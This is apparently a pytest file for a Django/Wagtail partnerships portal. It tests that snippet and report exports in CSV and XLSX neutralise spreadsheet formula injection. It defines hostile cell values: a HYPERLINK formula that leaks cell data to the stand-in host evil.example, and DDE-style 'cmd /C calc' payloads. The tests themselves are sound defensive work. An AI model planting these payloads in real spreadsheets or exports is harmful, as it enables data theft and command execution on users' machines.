"""No spreadsheet the admin hands out runs a formula: every snippet export and every report.

The walk covers every registered snippet viewset, so a new one that forgets the
portal's base viewset, or has no hostile record made for it here, fails.
"""

import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.snippets.models import get_snippet_models

from partnerships.models import (
    AnnualReview,
    PartnerOrganisation,
    Partnership,
    ProgressReport,
    Sector,
)
from partnerships.reports.views import REPORT_VIEWS
from partnerships.spreadsheet import FORMULA_STARTS, NeutralisedExportMixin

from .factories import PartnershipFactory, PartnershipPartnerFactory, ServiceAreaFactory, UserFactory

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS_CMD = "+cmd|' /C calc'!A0"
MINUS_CMD = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
HOSTILE = [HYPERLINK, AT_SUM, PLUS_CMD, MINUS_CMD, TAB, CR]
NUMBER = re.compile(r"-?\d+(\.\d+)?")


@pytest.fixture
def hostile_entry(portal_site):
    entry = PartnershipFactory(
        name=HYPERLINK,
        service_area=ServiceAreaFactory(name=AT_SUM),
        lead_officer=UserFactory(first_name=PLUS_CMD, last_name="Officer"),
        annual_contribution=Decimal("250000"),  # significant, so it is in that report too
    )
    PartnershipPartnerFactory(partnership=entry)
    return entry


def make_partnership(entry):
    return entry


def make_partner_organisation(entry):
    return PartnerOrganisation.objects.create(name=HYPERLINK, sector=Sector.PUBLIC, registered_number=MINUS_CMD)


def make_progress_report(entry):
    return ProgressReport.objects.create(
        partnership=entry,
        period_start=datetime.date(2025, 10, 1),
        period_end=datetime.date(2026, 3, 31),
        rating="red",
        sufficient_progress=False,
        achievements=AT_SUM,
        issues=TAB,
        next_steps=CR,
        spend_to_date=Decimal("-120.50"),  # a number, left a number
    )


def make_annual_review(entry):
    return AnnualReview.objects.create(
        partnership=entry,
        outcome="exit",
        improvements=PLUS_CMD,
        exit_plan=MINUS_CMD,
        activity_year=2025,
        activity_summary=CR,
    )


MAKERS = {
    Partnership: make_partnership,
    PartnerOrganisation: make_partner_organisation,
    ProgressReport: make_progress_report,
    AnnualReview: make_annual_review,
}


def exporting_viewsets():
    # An unset list_export is Wagtail's UNDEFINED marker, not a list: no export.
    viewsets = [model.snippet_viewset for model in get_snippet_models()]
    return [viewset for viewset in viewsets if isinstance(viewset.list_export, list | tuple) and viewset.list_export]


@pytest.fixture
def manager_client(client, make_user):
    client.force_login(make_user(is_superuser=True, is_staff=True))
    return client


def csv_cells(response):
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content if response.streaming else [response.content]).decode("utf-8-sig")
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows, "the export has no rows"
    return [cell for row in rows for cell in row]


def assert_no_formula(cells):
    # A negative amount is a number to a spreadsheet, not a formula.
    formulas = [cell for cell in cells if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)]
    assert not formulas, formulas


def test_every_snippet_viewset_uses_the_neutralising_index_view():
    for model in get_snippet_models():
        assert issubclass(model.snippet_viewset.index_view_class, NeutralisedExportMixin), model


def test_every_exporting_snippet_viewset_has_a_hostile_record_here():
    assert {viewset.model for viewset in exporting_viewsets()} == set(MAKERS)


@pytest.mark.parametrize("model", list(MAKERS), ids=lambda model: model.__name__)
def test_snippet_csv_export_neutralises_every_formula(manager_client, hostile_entry, model):
    record = MAKERS[model](hostile_entry)
    viewset = model.snippet_viewset

    response = manager_client.get(reverse(viewset.get_url_name("list")), {"export": "csv"})

    cells = csv_cells(response)
    assert_no_formula(cells)
    neutralised = [cell for cell in cells if cell.startswith("'") and cell[1:].startswith(tuple(HOSTILE))]
    assert neutralised, f"no hostile value of {record!r} reached the export: {cells}"
    if model is ProgressReport:
        assert "-120.50" in cells  # numbers are not text, and stay numbers


@pytest.mark.parametrize("model", list(MAKERS), ids=lambda model: model.__name__)
def test_snippet_xlsx_export_writes_text_never_a_formula(manager_client, hostile_entry, model):
    MAKERS[model](hostile_entry)
    viewset = model.snippet_viewset

    response = manager_client.get(reverse(viewset.get_url_name("list")), {"export": "xlsx"})

    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert any(cell.value in HOSTILE for cell in cells)


@pytest.mark.parametrize("view_class", REPORT_VIEWS, ids=lambda view: view.url_name)
def test_register_report_csv_neutralises_every_formula(manager_client, hostile_entry, view_class):
    make_progress_report(hostile_entry)

    response = manager_client.get(reverse(f"partnerships_reports:{view_class.url_name}"), {"export": "csv"})

    assert_no_formula(csv_cells(response))


def test_significant_report_lists_the_hostile_name_neutralised(manager_client, hostile_entry):
    response = manager_client.get(reverse("partnerships_reports:significant"), {"export": "csv"})

    cells = csv_cells(response)
    assert "'" + HYPERLINK in cells
    assert "'" + AT_SUM in cells


def test_cabinet_exception_report_csv_neutralises_every_formula(manager_client, hostile_entry):
    make_progress_report(hostile_entry)

    response = manager_client.get(
        reverse("workflows_reports:exception_report"),
        {"export": "csv", "period_start": "2025-01-01", "period_end": "2026-12-31"},
    )

    cells = csv_cells(response)
    assert_no_formula(cells)
    assert "'" + HYPERLINK in cells
    assert "'" + TAB in cells
